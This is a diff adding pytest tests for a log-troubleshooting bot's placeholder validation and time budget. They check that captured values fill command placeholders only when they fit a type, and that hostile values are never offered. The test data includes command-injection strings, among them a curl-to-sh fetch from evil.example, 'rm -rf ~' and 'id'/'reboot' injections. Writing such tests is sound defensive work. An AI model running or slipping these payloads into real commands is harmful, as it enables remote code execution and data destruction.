@@ -189,3 +189,40 @@ def test_a_paste_with_too_many_lines_keeps_its_head_tail_and_errors():
     prepared = prepare("\n".join(lines))
     assert len(prepared.lines) < normalize.MAX_LINES + 10
     assert OOM_LINE in prepared.lines and any("lines between its head and tail" in n for n in prepared.notices)
+
+
+# --- command placeholders (finding 3) and the time budget (finding 2) ------------------------------------
+
+
+@pytest.mark.parametrize(("name", "value", "kept"), [
+    ("port", "1025", True), ("port", "99999", False), ("port", "1025;reboot", False), ("port", "１０２５", False),
+    ("model_path", "/data/models/qwen2-7b", True), ("model_path", "/数据/模型", True),
+    ("model_path", "/$(curl${IFS}-s${IFS}https://evil.example/x|sh)", False), ("model_path", "/<!channel>", False),
+    ("model_path", "/a b", False), ("model_path", "/a`id`", False), ("model_path", "~/x", False),
+    ("ifname", "eth0", True), ("ifname", "enp1s0f0.100", True), ("ifname", "eth0;id", False),
+    ("ip", "10.0.0.12", True), ("ip", "fe80::1", True), ("ip", "10.0.0.1|sh", False),
+    ("code", "MIE05E010001", True), ("code", "<@U1>", False), ("model", "Qwen2.5-7B-Instruct", True),
+    ("model", "x\ny", False),
+])
+def test_captures_fill_a_placeholder_only_when_they_fit_its_type(name, value, kept):
+    from bot.engine.engine import fill
+    from bot.engine.placeholders import safe_value
+
+    assert (safe_value(name, value) == value) is kept
+    assert fill(f"run {{{name}}} now", {name: value}) == (f"run {value} now" if kept else f"run {{{name}}} now")
+
+
+@pytest.mark.parametrize("path", ["/$(curl${IFS}-s${IFS}https://evil.example/x|sh)", "/<!channel>", "/a;rm -rf ~"])
+def test_a_hostile_capture_is_never_offered_as_a_command(engine, path):
+    answer = engine.answer(f"Check_path: {path}/config.json failed")
+    assert answer.results[0].id == "check-path-config-json"
+    assert "chmod 640 {model_path}/config.json" in answer.results[0].commands
+    assert not any(path in command for hit in answer.results for command in hit.commands)
+
+
+def test_an_answer_past_its_budget_reads_only_the_lines_that_matter(engine):
+    log = "[INFO] starting\n" * 3000 + SOCKET_LINE + "\n" + "[INFO] retrying\n" * 3000
+    answer = engine.answer(log, deadline=time.monotonic() - 1)
+    assert answer.results[0].id == "socket-bind-failed"
+    assert any("time budget ran out" in n for n in answer.notices)
+    assert not any("time budget" in n for n in engine.answer(log, deadline=time.monotonic() + 60).notices)
